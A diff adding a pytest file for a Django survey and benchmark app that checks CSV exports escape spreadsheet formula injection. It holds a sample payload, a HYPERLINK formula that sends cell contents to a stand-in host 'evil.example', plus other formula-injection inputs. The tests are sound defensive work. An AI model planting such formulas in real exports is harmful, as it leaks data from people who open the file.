@@ -1,0 +1,90 @@
+"""Security issue 11, finding 6 ("lows"): CSV formula injection, four 500s, webhook signature order,
+X-Forwarded-For and the API throttle, self-test write limits, encoded PROLIFIC_PID in logs."""
+
+import csv
+import io
+
+import pandas as pd
+import pytest
+from django.contrib.auth import get_user_model
+from django.test import Client
+from django.urls import reverse
+from django.utils import timezone
+
+from benchmark.models import Answer
+from config.spreadsheet import spreadsheet_cell, spreadsheet_frame
+from psychometrics.services import analysis_create, analysis_run
+from surveys.models import Rating
+from tests.factories import ItemFactory, ItemGroupFactory, ParticipantFactory, StudyFactory
+from tests.psychometrics.conftest import completed_study  # noqa: F401
+from tests.results.builders import completed_run, imported_bank
+
+pytestmark = pytest.mark.django_db
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+def _csv_rows(content: bytes) -> list[dict]:
+    return list(csv.DictReader(io.StringIO(content.decode())))
+
+
+def _logged_in(user) -> Client:
+    client = Client()
+    client.force_login(user)
+    return client
+
+
+# --- a. formula injection in CSV downloads ---------------------------------------------------------
+
+
+@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "-", "-inf", "=-0.25"])
+def test_a_text_cell_a_spreadsheet_would_evaluate_gets_a_leading_quote(text):
+    assert spreadsheet_cell(text) == "'" + text
+    assert spreadsheet_frame(pd.DataFrame({"cell": [text]}))["cell"].tolist() == ["'" + text]
+
+
+@pytest.mark.parametrize("value", [-0.25, "-0.25", "+3", "-1e-05", "-7", ".5", "Benevolence", "a=b", "", None, 3])
+def test_numbers_and_harmless_text_are_left_as_they_are(value):
+    assert spreadsheet_cell(value) == value
+
+
+def test_a_frame_keeps_its_numeric_and_datetime_columns_and_is_not_modified_in_place():
+    frame = pd.DataFrame({"text": ["=1", "ok", None], "rho": [-0.25, 0.5, float("nan")],
+                          "at": pd.to_datetime(["2025-01-01"] * 3, utc=True)})
+    safe = spreadsheet_frame(frame)
+    assert safe["text"].tolist()[:2] == ["'=1", "ok"] and frame["text"].tolist()[0] == "=1"
+    assert safe["rho"].dtype == frame["rho"].dtype and safe["at"].dtype == frame["at"].dtype
+    assert safe.to_csv(index=False).splitlines()[1].startswith("'=1,-0.25,")
+
+
+def test_the_studys_ratings_csv_download_escapes_formulas(django_user_model):
+    study = StudyFactory(slug="injected")
+    item = ItemFactory(group=ItemGroupFactory(study=study, name="@group"), item_id=FORMULA, source="+source")
+    Rating.objects.create(participant=ParticipantFactory(study=study), item=item, rating=3, answered_at=timezone.now())
+    researcher = django_user_model.objects.create_user("csv-researcher", password="pw")
+    study.researchers.add(researcher)
+    response = _logged_in(researcher).get("/studies/injected/export/ratings.csv")
+    assert response.status_code == 200
+    [row] = _csv_rows(b"".join(response.streaming_content))
+    assert (row["item_id"], row["group"], row["source"], row["rating"]) == ("'" + FORMULA, "'@group", "'+source", "3")
+
+
+def test_the_analysis_items_csv_escapes_formulas_but_keeps_negative_correlations_numbers(completed_study):  # noqa: F811
+    completed_study.items.filter(item_id="B1").update(source=FORMULA)
+    analysis_run(analysis_id=analysis_create(study=completed_study, enqueue=False).pk)
+    researcher = get_user_model().objects.create_user("csv-analyst", password="pw")
+    completed_study.researchers.add(researcher)
+    response = _logged_in(researcher).get(reverse("psychometrics:analysis-items", args=["values", "csv"]))
+    rows = _csv_rows(b"".join(response.streaming_content))
+    assert {row["source"] for row in rows if row["item_id"] == "B1"} == {"'" + FORMULA}
+    negative = [row["rho"] for row in rows if row["rho"].startswith("-")]
+    assert negative and all(float(rho) < 0 for rho in negative)  # still numbers, no quote
+
+
+def test_the_results_sites_csv_of_a_runs_items_escapes_an_llm_answer(tmp_path):
+    run = completed_run(imported_bank(tmp_path), "model-a")
+    Answer.objects.filter(run=run).update(raw_text=FORMULA)
+    response = Client().get(f"/results/runs/{run.pk}/items/?family=pvq&dimension=Benevolence&format=csv")
+    rows = _csv_rows(response.content)
+    assert rows and {row["answer_1"] for row in rows} == {"'" + FORMULA}
+    assert all(float(row["rho"]) >= 0.3 for row in rows)
